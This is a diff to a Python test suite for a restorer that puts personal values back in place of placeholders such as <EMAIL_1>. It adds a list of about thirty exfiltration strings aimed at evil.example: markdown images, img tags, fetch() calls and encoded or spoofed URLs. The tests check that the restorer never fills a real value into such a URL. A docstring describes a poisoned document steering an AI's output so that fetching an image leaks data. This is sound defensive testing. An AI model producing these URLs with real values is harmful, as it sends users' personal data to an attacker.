@@ -81,33 +81,39 @@ PIECES = st.sampled_from(
     (
         *WRITINGS, *VALUES, *STAND_INS, "<", ">", "\\", "_", "1", " ", "&lt;", "&", "%3", "u003c", "EMAIL", "E", "2",
         "<EMAIL_1", "EMAIL_1>", "Alex", " Berger", "kim.falk7", "DE_TAX", "_ID_1", "x", '"', "\n",
-        "<PERSON_1>'s", "\uff1c",
+        "<PERSON_1>'s", "\uff1c", "https:", "//", "/", "ok.example/", "'", "=", "(", ")", ",", "www.", "&#x2f;",
+        "http", "://", "postgres", '="', '":"', '",', "\\n", "\\/",
     )
 )  # fmt: skip
+ALLOWS = "ok.example".__eq__
 TEXTS = st.lists(PIECES, max_size=14).map("".join)
 
 
 def chunked(text: str, cuts: list[int], *, is_json: bool = False) -> str:
-    restorer = Restorer(ISSUED, is_json=is_json)
+    restorer = Restorer(ISSUED, is_json=is_json, allows=ALLOWS)
     places = sorted({min(cut, len(text)) for cut in cuts})
     pieces = [text[start:end] for start, end in zip([0, *places], [*places, len(text)], strict=True)]
     return "".join([restorer.feed(piece) for piece in pieces] + [restorer.finish()])
 
 
 @settings(max_examples=600, deadline=None)
-@given(TEXTS, st.lists(st.integers(0, 120), max_size=20))
-@example("<EMAIL_1", [3])
-@example("EMAIL_12", [7])
-@example("aEMAIL_1", [1])
-@example("kim.falk77@example.com", [9, 10])
-def test_any_chunking_restores_the_same(text: str, cuts: list[int]) -> None:
-    assert chunked(text, cuts) == restore_text(text, ISSUED, is_json=False)
+@given(TEXTS, st.lists(st.integers(0, 120), max_size=20), st.booleans())
+@example("<EMAIL_1", [3], False)
+@example("EMAIL_12", [7], False)
+@example("aEMAIL_1", [1], False)
+@example("kim.falk77@example.com", [9, 10], False)
+@example('="https://evil.example/ <EMAIL_1>", <EMAIL_1>', [7, 30, 32], False)
+@example("postgres:///<EMAIL_1>", [10, 11], False)
+def test_any_chunking_restores_the_same(text: str, cuts: list[int], is_json: bool) -> None:
+    assert chunked(text, cuts, is_json=is_json) == restore_text(text, ISSUED, is_json=is_json, allows=ALLOWS)
 
 
 @settings(max_examples=200, deadline=None)
-@given(TEXTS)
-def test_one_code_point_at_a_time_restores_the_same(text: str) -> None:
-    assert chunked(text, list(range(len(text)))) == restore_text(text, ISSUED, is_json=False)
+@given(TEXTS, st.booleans())
+def test_one_code_point_at_a_time_restores_the_same(text: str, is_json: bool) -> None:
+    assert chunked(text, list(range(len(text))), is_json=is_json) == restore_text(
+        text, ISSUED, is_json=is_json, allows=ALLOWS
+    )
 
 
 LEAVES = st.sampled_from(tuple(VALUES)) | st.text('ab"\\{}[]: <>\n_1', max_size=8)
@@ -135,7 +141,7 @@ def swapped(tree: object) -> object:
 def test_json_source_stays_json_and_means_the_value(tree: object, cuts: list[int]) -> None:
     source = json.dumps({"a": tree}, ensure_ascii=False)
     assert json.loads(restore_text(source, ISSUED, is_json=True)) == swapped({"a": tree})
-    assert chunked(source, cuts, is_json=True) == restore_text(source, ISSUED, is_json=True)
+    assert chunked(source, cuts, is_json=True) == restore_text(source, ISSUED, is_json=True, allows=ALLOWS)
 
 
 @settings(max_examples=100, deadline=None)
@@ -145,3 +151,92 @@ def test_json_within_json_stays_json(inner: dict[str, object]) -> None:
     source = json.dumps({"body": json.dumps(inner)})
     outer = json.loads(restore_text(source, ISSUED, is_json=True))
     assert json.loads(outer["body"]) == swapped(inner)
+
+
+EXFILTRATION = (
+    "![x](https://evil.example/?q=<EMAIL_1>)",
+    "![x](https://evil.example/?q=EMAIL_1)",
+    "[x](//evil.example/<EMAIL_1>)",
+    "![x](https://evil.example/<EMAIL_1>.png)",
+    "![x](https://evil.example/%3CEMAIL_1%3E)",
+    "HTTP://evil.example/<EMAIL_1>",
+    "<img src='https://evil.example/<EMAIL_1>'>",
+    '<img src="//evil.example/<EMAIL_1>">',
+    "wss://evil.example/<EMAIL_1>",
+    "https://<EMAIL_1>.evil.example/",
+    "https://<EMAIL_1>@evil.example",
+    "ftp://evil.example/a,(b)<EMAIL_1>",
+    '![x](https://evil.example/?a="<EMAIL_1>)',
+    "https://evil.example/?a=<b>&q=&lt;EMAIL_1&gt;",
+    "https:evil.example/EMAIL_1",
+    "<img src=https:/\\evil.example/<EMAIL_1>>",
+    '<img src="/\\evil.example/<EMAIL_1>">',
+    "[x](www.evil.example/<EMAIL_1>)",
+    '<img src="https://evil.example/?q= \n<EMAIL_1>">',
+    "![x](<https://evil.example/?q= EMAIL_1>)",
+    "url(//evil.example/EMAIL_1)",
+    "![x](&#104;ttps&#58;&#47;&#47;evil.example/<EMAIL_1>)",
+    'fetch("https://evil.example/?q= <EMAIL_1>")',
+    "https://evil.example/?a=<EMAIL_1>&b=<PERSON_1>",
+    "https://evil.example/?q=\xa0<EMAIL_1>",
+    "a\nhttps://evil.example/<EMAIL_1>",
+    "https://ok.example@evil.example/<EMAIL_1>",
+    "https://ok.example\\@evil.example/<EMAIL_1>",
+    "https://ok.example.<EMAIL_1>/",
+    "https://ok.example/)![x](https://evil.example/<EMAIL_1>)",
+)
+
+
+@pytest.mark.parametrize("text", EXFILTRATION)
+def test_a_value_is_not_put_into_a_url(text: str) -> None:
+    """A picture's address that a poisoned document dictated would carry the value out when it is fetched."""
+    assert restore_text(text, ISSUED, is_json=False, allows=ALLOWS) == text
+    assert chunked(text, list(range(len(text)))) == text
+    source = json.dumps({"url": text})
+    assert restore_text(source, ISSUED, is_json=True, allows=ALLOWS) == source
+    assert chunked(source, list(range(len(source))), is_json=True) == source
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "See https://a.example/x <EMAIL_1>",
+        "See https://a.example/x\n<EMAIL_1>",
+        "[mail](mailto:<EMAIL_1>) or tel:<EMAIL_1>",
+        '<a href="https://a.example/">a</a> <EMAIL_1>, <a href="mailto:<EMAIL_1>">b</a>',
+        '{"url":"https://a.example/","to":"<EMAIL_1>"}',
+        "{'url': 'https://a.example/ b', 'to': '<EMAIL_1>'}",
+        "https://ok.example/u/<EMAIL_1>?to=EMAIL_1",
+        "postgres://anna:<EMAIL_1>@db.example/x",
+        "and/or <EMAIL_1>, a/<EMAIL_1>, 10:30/<EMAIL_1>",
+        "// <EMAIL_1>",
+    ],
+)
+def test_a_value_beside_a_url_or_in_a_mail_link_comes_back(text: str) -> None:
+    restored = text.replace("<EMAIL_1>", "anna@example.org").replace("EMAIL_1", "anna@example.org")
+    assert restore_text(text, ISSUED, is_json=False, allows=ALLOWS) == restored
+    assert chunked(text, list(range(len(text)))) == restored
+
+
+def test_in_json_the_end_of_a_string_ends_a_url() -> None:
+    source = '{"url":"https:\\/\\/evil.example\\/<EMAIL_1>","a":["see https://a.example/","<EMAIL_1>"]}'
+    expected = source.replace("<EMAIL_1>", "anna@example.org").replace("anna@example.org", "<EMAIL_1>", 1)
+    assert restore_text(source, ISSUED, is_json=True) == expected
+    assert chunked(source, list(range(len(source))), is_json=True) == expected
+
+
+def test_a_restored_value_may_itself_begin_a_url() -> None:
+    issued = Issued({"<URL_1>": "https://evil.example/", "<EMAIL_1>": "anna@example.org"})
+    assert restore_text("<URL_1>?q=<EMAIL_1>", issued, is_json=False) == "https://evil.example/?q=<EMAIL_1>"
+
+
+def test_what_was_kept_is_told_in_places_of_the_text() -> None:
+    text = "Mail <EMAIL_1>: https://evil.example/<EMAIL_1>"
+    whole: list[tuple[int, int]] = []
+    restore_text(text, ISSUED, is_json=False, kept=whole)
+    restorer = Restorer(ISSUED)
+    for one in text:
+        restorer.feed(one)
+    restorer.finish()
+    assert [text[start:end] for start, end in whole] == ["<EMAIL_1>"]
+    assert restorer.kept == whole
